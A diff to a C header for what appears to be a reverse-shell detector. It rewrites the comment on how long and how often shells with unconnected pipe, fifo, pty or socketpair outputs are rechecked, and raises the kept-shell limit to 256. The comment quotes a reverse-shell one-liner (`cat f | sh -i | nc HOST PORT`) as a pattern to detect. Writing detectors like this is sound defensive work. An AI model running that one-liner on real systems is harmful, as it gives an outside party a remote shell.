@@ -7,10 +7,14 @@
  * how, who holds the socket); whether they make a reverse shell is the
  * detector's judgement (sw_rules_net_revshell()).
  *
- * The other end's holder often connects a moment after the shell starts
- * (`cat f | sh -i | nc HOST PORT` starts all three at once): a shell whose
- * output goes to a pipe, fifo, pty or socket with no connected holder yet
- * is kept for a few seconds and looked at again once a second.
+ * At the exec, a socket on the shell's stdio and the parent holding its
+ * pty's master or socketpair's other end are looked for.  A pipe's or
+ * fifo's holder often connects a moment after the shell starts (`cat f |
+ * sh -i | nc HOST PORT` starts all three at once), and most shells that
+ * write to a pipe are gone within a second: a shell whose output goes to a
+ * pipe, fifo, pty or socketpair with no connected holder is kept for 3
+ * seconds and, while it runs, looked at again once a second, with its
+ * parent's and siblings' descriptors.
  */
 #ifndef SW_REVCONN_H
 #define SW_REVCONN_H
@@ -22,7 +26,7 @@
 #include "lineage.h"
 
 /* Shells kept to be looked at again, at most, and for how long. */
-#define SW_REVCONN_KEEP 64
+#define SW_REVCONN_KEEP 256
 #define SW_REVCONN_KEEP_NS (3ull * 1000000000ull)
 
 struct sw_revconn;
